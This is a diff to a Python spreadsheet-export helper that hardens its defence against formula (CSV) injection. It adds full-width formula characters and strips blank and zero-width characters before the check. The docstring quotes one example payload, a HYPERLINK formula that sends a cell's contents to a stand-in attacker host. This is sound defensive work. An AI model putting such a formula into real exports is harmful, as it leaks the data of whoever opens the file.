@@ -1,7 +1,8 @@
 """What a spreadsheet cell may hold, whatever a partner typed.
 
 A text cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
-spreadsheets skip before reading the rest) is a formula to Excel and LibreOffice: a
+spreadsheets skip before reading the rest; or their full-width forms, or any of these
+after blanks an import may trim) is a formula to Excel and LibreOffice: a
 partner's answer `=HYPERLINK("https://evil.example/?"&A1,"click")` would run in the
 spreadsheet of whoever opens the export (OWASP, "CSV Injection"). Such a cell gets a
 leading single quote, which the spreadsheet shows as text. Numbers and dates stay what
@@ -15,7 +16,10 @@ from datetime import UTC, date, datetime
 
 from tasks.privacy import redacted
 
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+# What a spreadsheet may trim before reading a formula (its import's "trim spaces"):
+# blanks, line breaks, no-break and zero-width spaces, a byte-order mark.
+_BLANK_START = " \n\u00a0\u2007\u202f\u200b\u3000\ufeff"
 # Excel's limit on one cell's text; longer text is cut and says so.
 MAX_CELL = 32_767
 TRUNCATED = " […truncated]"
@@ -32,7 +36,7 @@ def text_cell(value: str) -> str:
     (tasks/privacy.py), characters XML forbids removed, cut to `MAX_CELL` characters with
     a marker, and a formula start neutralised by a leading quote."""
     text = _ILLEGAL.sub("", redacted(value))
-    if text.startswith(FORMULA_START):
+    if text.lstrip(_BLANK_START).startswith(FORMULA_START):
         text = "'" + text
     if len(text) > MAX_CELL:
         text = text[: MAX_CELL - len(TRUNCATED)] + TRUNCATED
